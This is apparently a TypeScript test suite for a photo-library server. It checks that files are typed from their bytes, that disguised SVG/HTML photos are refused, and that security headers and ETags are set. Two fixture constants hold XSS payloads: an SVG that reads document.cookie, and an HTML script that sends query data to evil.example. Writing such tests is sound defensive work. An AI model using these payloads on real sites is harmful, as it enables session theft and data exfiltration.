// Media types come from a photo's bytes, never its name: an indexed .jpg replaced by SVG or HTML
// (or by a link to such a file) is never served as something a browser would run, every media
// response carries the sandboxing CSP, nosniff and CORP, and a cached copy is revalidated by an
// ETag that names the photo's bytes.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import sharp from 'sharp'
import type { RunningServer } from '../src/main/shells/server.ts'
import { cifarLibrary, removeDirs } from '../fixtures/photos.ts'
import { serveLibrary, type Served } from './served.ts'

let lib: string
let served: Served
let server: RunningServer
const photos = new Map<string, number>()

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/status\')"><script>alert(document.cookie)</script></svg>'
const HTML = '<!doctype html><html><body><script>fetch("https://evil.example/?t=" + location.search)</script></body></html>'

const media = async (kind: 'photo' | 'thumb', id: number, headers: Record<string, string> = {}) => {
  const res = await fetch(`${server.origin}/media/${kind}/${id}`, { headers: { 'x-mrl-token': server.token, ...headers } })
  return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) }
}

before(async () => {
  lib = cifarLibrary(2)
  // photos that are not JPEGs under a .jpg name, and a TIFF (browsers other than Safari do not show TIFF)
  const cats = readdirSync(join(lib, 'cat')).sort()
  const jpeg = readFileSync(join(lib, 'cat', cats[0]))
  writeFileSync(join(lib, 'cat', 'png-named.jpg'), await sharp(jpeg).png().toBuffer())
  writeFileSync(join(lib, 'cat', 'scan.tif'), await sharp(jpeg).tiff().toBuffer())
  served = await serveLibrary(lib)
  server = served.server
  for (const p of (await served.engine.listPhotos({ offset: 0, limit: 500 })).photos) photos.set(p.path, p.id)
})

after(async () => {
  await served?.close()
  removeDirs(lib)
})

const idOf = (folder: string, index: number) => photos.get(join(lib, folder, readdirSync(join(lib, folder)).filter((f) => /^\d+\.jpg$/.test(f)).sort()[index]))!

test('an indexed .jpg replaced by SVG or HTML bytes, or by a link to an .html file, is never served as SVG or HTML', async () => {
  const svgId = idOf('truck', 0)
  const htmlId = idOf('truck', 1)
  const linkId = idOf('ship', 0)
  const pathOf = (id: number) => [...photos].find(([, v]) => v === id)![0]
  // the same paths, new bytes: a file the index saw as a JPEG
  writeFileSync(pathOf(svgId), SVG)
  writeFileSync(pathOf(htmlId), HTML)
  writeFileSync(join(lib, 'ship', 'page.html'), HTML)
  renameSync(pathOf(linkId), `${pathOf(linkId)}.moved`)
  symlinkSync(join(lib, 'ship', 'page.html'), pathOf(linkId)) // inside the library: only its type stops it
  for (const id of [svgId, htmlId, linkId]) {
    const res = await media('photo', id)
    const type = res.headers.get('content-type') ?? ''
    assert.ok(!/svg|html|xml/i.test(type), `photo ${id} served as ${type}`)
    assert.equal(res.status, 415, `photo ${id}: ${res.status} ${res.body}`)
    assert.match(JSON.parse(res.body.toString()).error, /not a photo format/)
    assert.ok(!res.body.includes('<script'), 'the file itself was sent')
  }
})

test('the type is read from the bytes: a PNG named .jpg is image/png, a TIFF is served as a JPEG rendered from it', async () => {
  const png = await media('photo', photos.get(join(lib, 'cat', 'png-named.jpg'))!)
  assert.equal(png.status, 200)
  assert.equal(png.headers.get('content-type'), 'image/png')
  const tiff = await media('photo', photos.get(join(lib, 'cat', 'scan.tif'))!)
  assert.equal(tiff.status, 200)
  assert.equal(tiff.headers.get('content-type'), 'image/jpeg')
  assert.deepEqual([...tiff.body.subarray(0, 3)], [0xff, 0xd8, 0xff])
  assert.equal(Number(tiff.headers.get('content-length')), tiff.body.length)
  assert.equal((await sharp(tiff.body).metadata()).width, 32)
})

test('every media response, photo or thumbnail, carries the sandboxing CSP, nosniff and CORP same-origin', async () => {
  const id = idOf('cat', 1)
  for (const kind of ['photo', 'thumb'] as const) {
    const res = await media(kind, id)
    assert.equal(res.status, 200)
    const csp = res.headers.get('content-security-policy') ?? ''
    assert.match(csp, /(^|;\s*)default-src 'none'(;|$)/, `${kind}: ${csp}`)
    assert.match(csp, /(^|;\s*)sandbox(;|$)/, `${kind}: ${csp}`)
    assert.ok(!/script-src|'unsafe-eval'/.test(csp), csp)
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff')
    assert.equal(res.headers.get('cross-origin-resource-policy'), 'same-origin')
    assert.equal(Number(res.headers.get('content-length')), res.body.length)
  }
})

test('a cached thumbnail or photo is used only after revalidation: no-cache, and an ETag of the photo that changes with it', async () => {
  const id = idOf('dog', 0)
  const first = await media('thumb', id)
  assert.equal(first.headers.get('cache-control'), 'private, no-cache')
  const etag = first.headers.get('etag')
  assert.match(etag ?? '', /^"t\d+-[0-9a-f]{16}-\d+-\d+"$/)
  assert.ok(etag!.includes(`t${id}-`), 'the ETag names the photo id')
  const again = await media('thumb', id, { 'if-none-match': etag! })
  assert.equal(again.status, 304)
  assert.equal(again.body.length, 0)
  // the photo's own ETag differs from its thumbnail's, and changes when the file does
  const photo = await media('photo', id)
  const photoTag = photo.headers.get('etag')!
  assert.notEqual(photoTag, etag)
  const path = [...photos].find(([, v]) => v === id)![0]
  writeFileSync(path, Buffer.concat([readFileSync(path), Buffer.from('changed')]))
  const changed = await media('photo', id, { 'if-none-match': photoTag })
  assert.equal(changed.status, 200, 'a changed photo is sent again, not answered 304')
  assert.notEqual(changed.headers.get('etag'), photoTag)
})
